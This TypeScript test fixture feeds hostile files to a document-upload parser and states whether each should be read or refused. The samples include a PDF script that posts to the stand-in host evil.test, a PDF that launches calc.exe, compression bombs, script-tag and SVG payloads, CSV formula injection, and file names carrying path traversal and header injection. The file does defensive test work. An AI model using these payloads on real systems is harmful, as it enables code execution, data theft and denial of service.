import { deflateSync, gzipSync } from 'node:zlib';
import { png } from '../../builders/documents.ts';
import { encryptedPdf, pdfDocument, pdfPages, scannedPdf } from '../../builders/pdf-documents.ts';
import { bytes, type HostileFile } from './hostile-file.ts';

const policyText = '凭小票无理由退货';
const latin1 = (text: string) => Buffer.from(text, 'latin1');

const pdfs: HostileFile[] = [
  {
    title: 'a PDF with a script that runs when it opens',
    content: () =>
      pdfDocument(pdfPages, {
        extra:
          '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("http://evil.test"\\)) >>',
      }),
    reads: policyText,
    without: 'alert',
  },
  {
    title: 'a PDF that starts a program and has a file attached',
    content: () =>
      pdfDocument(pdfPages, {
        extra:
          '/OpenAction << /S /Launch /F (calc.exe) >> /Names << /EmbeddedFiles << /Names [(a.exe) 100 0 R] >> >>',
        objects: {
          100: '<< /Type /Filespec /F (a.exe) /EF << /F 101 0 R >> >>',
          101: { head: '', stream: latin1('MZ evil') },
        },
      }),
    reads: policyText,
    without: 'evil',
  },
  { title: 'a PDF with a password', content: encryptedPdf, refused: 'encrypted' },
  { title: 'a scanned PDF', content: scannedPdf, refused: 'scanned' },
  { title: 'a PDF of its first line only', content: () => bytes('%PDF-1.7\n'), refused: 'broken' },
  { title: 'half a PDF', content: () => pdfDocument().subarray(0, 600), refused: ['broken', 'scanned'] },
  {
    title: 'a PDF of noise',
    content: () => Buffer.concat([bytes('%PDF-1.4\n'), Buffer.alloc(50_000, 0xa7)]),
    refused: 'broken',
  },
  {
    title: 'a PDF whose pages hold each other',
    content: () => pdfDocument([], { objects: { 2: '<< /Type /Pages /Count 2 /Kids [2 0 R 2 0 R] >>' } }),
    refused: ['broken', 'scanned'],
  },
  {
    title: 'a PDF that says it has a thousand million pages',
    content: () =>
      pdfDocument(pdfPages, { objects: { 2: '<< /Type /Pages /Count 999999999 /Kids [10 0 R 12 0 R] >>' } }),
    reads: policyText,
  },
  {
    title: 'a PDF bomb: a page of 1 GB of spaces',
    content: () => bombPdf(),
    // Only Linux bounds what a process allocates besides its heap.
    refused: process.platform === 'linux' ? 'tooMuchMemory' : 'scanned',
  },
  {
    title: 'a PDF of a million characters on one line',
    content: () => pdfDocument([[{ text: '长'.repeat(1_000_000), x: 0, y: 700 }]]),
    reads: '长长长',
  },
];

/** Deflated twice, so that the file is small. */
function bombPdf(): Uint8Array {
  const zeros = Buffer.alloc(256 * 1024 * 1024, 32);
  const once = deflateSync(Buffer.concat([zeros]), { level: 1 });
  return pdfDocument([], {
    objects: {
      2: '<< /Type /Pages /Count 1 /Kids [100 0 R] >>',
      100: `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents [${'101 0 R '.repeat(4)}] >>`,
      101: { head: '/Filter [/FlateDecode /FlateDecode]', stream: deflateSync(once) },
    },
  });
}

const fakes: HostileFile[] = [
  { title: 'a picture named .pdf', fileName: '政策.pdf', content: png, refused: 'unknownType' },
  {
    title: 'a JPEG named .docx',
    fileName: '政策.docx',
    content: () => latin1('\u00ff\u00d8\u00ff\u00e0\u0000\u0010JFIF\u0000'),
    refused: 'unknownType',
  },
  {
    title: 'a Linux program named .txt',
    fileName: 'a.txt',
    content: () => latin1('\u007fELF\u0002\u0001\u0001\u0000\u0000'),
    refused: 'unknownType',
  },
  {
    title: 'a Windows program named .csv',
    fileName: 'a.csv',
    content: () => latin1('MZ\u0090\u0000\u0003\u0000\u0000\u0000'),
    refused: 'unknownType',
  },
  {
    title: 'a gzip bomb named .csv',
    fileName: 'a.csv',
    content: () => gzipSync(Buffer.alloc(50_000_000)),
    refused: ['unknownType', 'encoding'],
  },
  {
    title: 'a 7z archive',
    content: () => latin1('7z\u00bc\u00af\u0027\u001c\u0000\u0004'),
    refused: 'unknownType',
  },
  { title: 'a RAR archive', content: () => latin1('Rar!\u001a\u0007\u0001\u0000'), refused: 'unknownType' },
  {
    title: 'a page with a script named .txt',
    fileName: 'a.txt',
    content: () => bytes('<!doctype html><script>alert(1)</script>'),
    refused: 'markup',
  },
  {
    title: 'an SVG with a script named .md',
    fileName: 'a.md',
    content: () => bytes('<svg onload="alert(1)"/>'),
    refused: 'markup',
  },
  {
    title: 'XML with entities named .txt',
    fileName: 'a.txt',
    content: () => bytes('<?xml version="1.0"?><!DOCTYPE a>'),
    refused: 'markup',
  },
  {
    title: 'RTF named .docx',
    fileName: 'a.docx',
    content: () => bytes('{\\rtf1\\ansi text}'),
    refused: 'rtf',
  },
  {
    title: 'a script before a PDF',
    content: () => Buffer.concat([bytes('<script>alert(1)</script>\n'), pdfDocument()]),
    refused: ['unknownType', 'encoding', 'markup'],
  },
];

const texts: HostileFile[] = [
  { title: 'no byte', content: () => new Uint8Array(), refused: 'empty' },
  { title: 'nothing but spaces', content: () => bytes(' \n\t\r\n\u3000'), refused: 'empty' },
  {
    title: 'bytes without meaning',
    content: () => Buffer.from(Array.from({ length: 4_000 }, (_, at) => (at * 7919) % 251)),
    refused: ['unknownType', 'encoding'],
  },
  {
    title: 'halves of characters in UTF-16',
    content: () => Buffer.from('fffe00d800d80a00', 'hex'),
    refused: 'encoding',
  },
  {
    title: 'text that breaks off into noise later',
    content: () => Buffer.concat([bytes('退货\n'.repeat(20_000)), Buffer.alloc(3_000, 0xff)]),
    refused: 'encoding',
  },
  {
    title: 'commands for a terminal',
    content: () => bytes('价格\u001b[2J\u001b]0;evil\u0007'),
    refused: 'encoding',
  },
  {
    title: 'invisible and turned characters',
    content: () => bytes('退\u200b货\u202e七天\u2066内\ufeff'),
    reads: '退货七天内',
  },
  {
    title: 'five million characters on one line',
    content: () => bytes('价'.repeat(5_000_000)),
    reads: '价价价',
  },
  { title: '30 million characters', content: () => bytes('a'.repeat(30_000_000)), refused: 'tooMuchText' },
  {
    title: 'a CSV with formulas',
    fileName: 'a.csv',
    content: () => bytes('名,值\n甲,=cmd|calc\n乙,@SUM(1)\n'),
    reads: '=cmd|calc',
  },
  {
    title: 'a CSV of 200 000 columns',
    fileName: 'a.csv',
    content: () => bytes(`${'列,'.repeat(200_000)}\n${'1,'.repeat(200_000)}`),
    reads: '列',
  },
  {
    title: 'a CSV whose quote never ends',
    fileName: 'a.csv',
    content: () => bytes(`名,值\n"甲,${'值\n'.repeat(50_000)}`),
    reads: '甲',
  },
  {
    title: 'Markdown of open brackets',
    fileName: 'a.md',
    content: () => bytes(`# 标题\n${'['.repeat(300_000)}\n`),
    reads: '标题',
  },
  {
    title: 'Markdown of open marks',
    fileName: 'a.md',
    content: () => bytes(`# 标题\n${'`x '.repeat(200_000)}\n`),
    reads: '标题',
  },
  {
    title: 'a run of a million quotes',
    content: () => bytes(`退货。${'”'.repeat(1_000_000)}`),
    reads: '退货',
  },
  {
    title: 'a name with line breaks',
    fileName: 'a\r\nSet-Cookie: b\u0000.txt',
    content: () => bytes('七天内可以退货'),
    reads: '七天内',
  },
  {
    title: 'a name that leads out',
    fileName: '../../../../etc/passwd.md',
    content: () => bytes('七天内可以退货'),
    reads: '七天内',
  },
  {
    title: 'a name of 255 bytes',
    fileName: `${'退'.repeat(83)}.csv`,
    content: () => bytes('七天内可以退货'),
    reads: '七天内',
  },
  {
    title: 'a name that is an option',
    fileName: '--eval.txt',
    content: () => bytes('七天内可以退货'),
    reads: '七天内',
  },
];

/** PDFs, things that are not what they are called, and texts. */
export const otherFiles: HostileFile[] = [...pdfs, ...fakes, ...texts];
